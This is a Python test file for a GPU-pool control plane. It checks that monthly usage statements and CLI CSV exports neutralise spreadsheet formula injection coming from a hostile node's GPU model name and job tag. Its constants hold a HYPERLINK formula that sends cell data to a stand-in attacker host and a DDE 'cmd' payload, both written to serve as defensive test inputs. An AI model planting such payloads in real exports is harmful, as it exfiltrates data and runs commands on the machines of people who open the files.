"""Formula injection through the control plane's CSV (issue 41, finding 19; figure S18).

A node registers over the public registration endpoint with a GPU model that is a spreadsheet formula, runs a job
(reported by hand on its mTLS channel) whose tag value is another, and is billed. The monthly statement
(`GET /usage/statement?format=csv`) and `gpupool usage --format csv` by model and by tag must show both behind a
single quote, and no cell that a spreadsheet would run.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
import time
from collections.abc import Iterator
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest
from websockets.sync.client import ClientConnection

from gpupool.devtools.hand_tls import HandTls, open_channel
from gpupool.devtools.harness import Server, start_server, stop_server, wait_for

MODEL = '=HYPERLINK("http://evil.example/?"&A1,"x")'
TAG = "-2+3+cmd|' /C calc'!A0"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"-?\d+(\.\d+)?")
METERED = {"GPUPOOL_METERING_INTERVAL_S": "0.5", "GPUPOOL_METERING_PERIOD_S": "1", "GPUPOOL_HEARTBEAT_S": "0.5"}


@pytest.fixture
def server(tmp_path: Path) -> Iterator[Server]:
    srv = start_server(tmp_path / "data", env=METERED)
    yield srv
    stop_server(srv)


def _frame(ws: ClientConnection, frame: dict[str, Any]) -> list[dict[str, Any]]:
    """Send `frame`; every order that comes before its ack."""
    ws.send(json.dumps(frame))
    orders = []
    while (got := json.loads(ws.recv(timeout=30)))["type"] != "ack" or got["seq"] != frame["seq"]:
        assert got["type"] != "rejected", got
        orders.append(got)
    return orders


def _billed_job(server: Server) -> datetime:
    """Register the hostile node, run one tagged job on it for a few metering periods; when the job started."""
    tls = HandTls()
    with server.client() as c:
        token = c.post("/join-tokens", json={}).json()["token"]
        reply = c.post("/agent/register", json={
            "join_token": token, "name": "evil", "boot_id": "boot", "cpu_milli": 64_000, "memory_mib": 65_536,
            "csr": tls.csr("evil"), "gpus": [{"index": 0, "uuid": "GPU-evil-0", "model": MODEL, "memory_mib": 16_384,
                                              "fake": True}]})
        assert reply.status_code == 200, reply.text
        job = c.post("/jobs", json={"command": ["true"], "gpus": "1", "tags": {"team": TAG}})
        assert job.status_code == 201, job.text
        with open_channel(server, tls.context(reply.json()), reply.json()["credential"]) as ws:
            orders = _frame(ws, {"type": "hello", "boot_id": "boot", "seq": 1, "running": []})
            while not any(o["type"] == "launch" for o in orders):
                orders.append(json.loads(ws.recv(timeout=30)))
            launch = next(o for o in orders if o["type"] == "launch")
            grant = {"boot_id": "boot", "allocation_id": launch["allocation_id"], "attempt": launch["attempt"]}
            _frame(ws, {"type": "task_status", "seq": 2, "state": "started", **grant})
            time.sleep(2.5)  # a few metering periods of 1 s
            _frame(ws, {"type": "task_status", "seq": 3, "state": "exited", "exit_code": 0, **grant})
        job_id = job.json()["id"]
        wait_for(lambda: c.get(f"/jobs/{job_id}").json()["state"] == "succeeded", 30, "the job to succeed")
        wait_for(lambda: any(r["key"] == MODEL for r in c.get("/usage", params={"by": "model"}).json()), 30,
                 "the ledger to bill the hostile model")
        started = c.get(f"/jobs/{job_id}").json()["allocations"][0]["started_at"]
    return datetime.fromisoformat(started)


def _usage_csv(server: Server, by: str) -> str:
    env = {**os.environ, "GPUPOOL_URL": server.url, "GPUPOOL_TOKEN": server.token}
    run = subprocess.run([sys.executable, "-m", "gpupool.cli.main", "usage", "--by", by, "--format", "csv"],
                         capture_output=True, text=True, timeout=120, env=env)
    assert run.returncode == 0, run.stdout + run.stderr
    return run.stdout


def test_statement_and_usage_csv_neutralise_hostile_models_and_tags(server: Server, s18: Any) -> None:
    month = _billed_job(server).strftime("%Y-%m")
    with server.client() as c:
        statement = c.get("/usage/statement", params={"project": "default", "month": month, "format": "csv"})
    assert statement.status_code == 200, statement.text
    files = {"statement": statement.text, "usage by model": _usage_csv(server, "model"),
             "usage by tag": _usage_csv(server, "tag:team")}
    rows = {name: list(csv.reader(io.StringIO(text))) for name, text in files.items()}
    cells = [cell for table in rows.values() for row in table for cell in row]
    injected = [c for c in cells if c.removeprefix("'") in (MODEL, TAG)]
    neutralised = [c for c in injected if c.startswith("'")]
    s18.add("csv_server", cells=len(injected), neutralised=len(neutralised))
    assert [row[2] for row in rows["statement"][1:-1]] == ["'" + MODEL], rows["statement"]
    assert ["'" + MODEL] == [row[0] for row in rows["usage by model"][1:]], rows["usage by model"]
    assert ["'" + TAG] == [row[0] for row in rows["usage by tag"][1:]], rows["usage by tag"]
    risky = [c for c in cells if c.startswith(TRIGGERS) and not NUMBER.fullmatch(c)]
    assert risky == [], f"cells a spreadsheet would run: {risky}"
    assert len(neutralised) == len(injected) == 3
